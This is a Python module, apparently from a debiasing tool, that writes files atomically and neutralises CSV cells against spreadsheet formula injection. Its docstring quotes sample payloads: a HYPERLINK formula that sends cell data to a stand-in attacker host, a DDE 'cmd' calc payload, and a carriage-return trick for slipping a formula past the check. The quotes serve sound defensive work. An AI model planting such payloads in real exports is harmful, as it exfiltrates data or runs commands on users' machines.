"""Writing output files atomically (temp file or folder beside the target, then rename), and
safe file-name parts.

The one atomic file writer is :func:`generative.write_atomic` (checkpoints use it too); it is
re-exported here with a CSV writer. The temp folder is created with ``os.mkdir(..., 0o777)``
rather than ``tempfile.mkdtemp`` (0700), so the kernel applies the process umask as for any
normally created folder (0755 under the usual umask 022).

CSV formula injection
---------------------
A spreadsheet opening a CSV runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a
formula (``=HYPERLINK("http://evil.example/?x="&A1,"click")`` sends data away), and tab or
carriage return at the start can smuggle one past a check. Attribute values, group names and
file names come from the user's dataset, so every CSV the tool writes goes through
:func:`write_csv` (and ``synthetic.csv`` too), which neutralises them as OWASP recommends:

- **Which cells.** Text cells only: the ``str`` values of object, string and categorical
  columns, and the column names. Numeric, boolean and datetime columns are written as they
  are, so ``-0.5`` in a float column stays the number ``-0.5``. A *string* ``"-0.5"`` is
  prefixed: in an object column it is user data (an attribute value, a group name), and telling
  a harmless number from a formula (``-1+1``, ``-2+3+cmd|' /C calc'!A0``) by parsing is what
  attackers defeat; the tool's own numbers are never strings. Lists and other objects are left
  alone (pandas writes their ``repr``, which starts with ``[``, ``(`` or ``{``).
- **The prefix.** A text cell whose first character, after any leading ``'``, is one of
  ``= + - @ \\t \\r`` gets one more ``'`` in front: ``=SUM(1)`` -> ``'=SUM(1)``, and a value
  that was already ``'=SUM(1)`` -> ``''=SUM(1)``. Other cells, including ``'abc``, are
  unchanged. Counting the existing quotes makes the rule exactly reversible:
  :func:`restore_csv_cell` (strip one ``'`` from a cell that matches) gives back the original
  value, which is what a reader of the tool's own CSVs (``debias audit --predictions`` reading
  ``debias predict``'s ``path`` column) applies.
- **Carriage returns inside a cell.** Python's CSV writer quotes a cell holding ``\\n`` but
  not one holding only ``\\r``, which a spreadsheet (and Python's own reader) takes for the end
  of the row: ``x\\r=HYPERLINK(...)`` would start a new row with a formula, past the prefix.
  When a text cell holds a ``\\r``, the file is written with ``\\r\\n`` line ends (RFC 4180),
  which makes the writer quote every cell holding ``\\r``; otherwise with ``\\n`` as before.
- **Not JSON.** result.json and the other JSON files keep the raw values: JSON is not opened
  as a spreadsheet, and it is the faithful record.
"""

from __future__ import annotations

import os
import secrets
from pathlib import Path

from generative import write_atomic

__all__ = ["neutralise_csv_cell", "neutralise_formulas", "restore_csv_cell", "safe_name",
           "temp_folder", "write_atomic", "write_csv"]

_ATTEMPTS = 100
_FORMULA_START = frozenset("=+-@\t\r")


def _temp_path(folder: Path, name: str, suffix: str) -> Path:
    return folder / f".{name}.{secrets.token_hex(4)}{suffix}"


def temp_folder(parent: str | os.PathLike, name: str) -> Path:
    """A new, empty, uniquely named folder ``parent/.name.XXXXXXXX``, with the mode a normally
    created folder gets (0o777 less the umask; ``tempfile.mkdtemp`` would give 0700)."""
    for _ in range(_ATTEMPTS):
        tmp = _temp_path(Path(parent), name, "")
        try:
            os.mkdir(tmp, 0o777)
        except FileExistsError:
            continue
        return tmp
    raise FileExistsError(f"no free temporary folder name for {name!r} in {parent}")


def write_csv(frame, path: str | os.PathLike) -> Path:
    """A pandas DataFrame as CSV (no index), atomically, its text cells neutralised against
    formula injection (:func:`neutralise_formulas`; the rule is in the module docstring)."""
    safe = neutralise_formulas(frame)
    ends = "\r\n" if _holds_carriage_return(safe) else "\n"
    return write_atomic(path, lambda tmp: safe.to_csv(tmp, index=False, lineterminator=ends))


def _holds_carriage_return(frame) -> bool:
    """Whether a text cell or a column name holds a ``\\r`` (see the module docstring)."""
    names = frame.columns if frame.columns.nlevels == 1 else []
    if any(isinstance(name, str) and "\r" in name for name in names):
        return True
    return any(isinstance(v, str) and "\r" in v
               for i in _text_columns(frame) for v in frame.iloc[:, i])


def _text_columns(frame) -> list[int]:
    """Positions of the columns that can hold ``str`` cells: object, string, categorical."""
    import pandas as pd

    return [i for i, dtype in enumerate(frame.dtypes)
            if dtype == object or isinstance(dtype, (pd.StringDtype, pd.CategoricalDtype))]


def _is_formula(value: str) -> bool:
    return value.lstrip("'")[:1] in _FORMULA_START


def neutralise_csv_cell(value):
    """``value`` with one ``'`` in front if it is a ``str`` whose first character after any
    leading ``'`` is ``= + - @``, tab or carriage return; anything else unchanged."""
    return "'" + value if isinstance(value, str) and _is_formula(value) else value


def restore_csv_cell(value):
    """The inverse of :func:`neutralise_csv_cell`, for a cell read back from the tool's own
    CSV: one leading ``'`` removed where the writer added one; anything else unchanged."""
    if isinstance(value, str) and value.startswith("'") and _is_formula(value):
        return value[1:]
    return value


def neutralise_formulas(frame):
    """A copy of ``frame`` whose text cells and column names are neutralised
    (:func:`neutralise_csv_cell`); numeric, boolean and datetime columns are untouched."""
    import pandas as pd

    out = frame.copy()
    for i in _text_columns(frame):
        out.isetitem(i, frame.iloc[:, i].astype(object).map(neutralise_csv_cell))
    if not isinstance(out.columns, pd.MultiIndex):
        out.columns = [neutralise_csv_cell(c) for c in frame.columns]
    return out


def safe_name(value: str) -> str:
    """A value as a file-name part: letters and digits kept, the rest as "_"."""
    return "".join(c if c.isalnum() else "_" for c in str(value)) or "_"
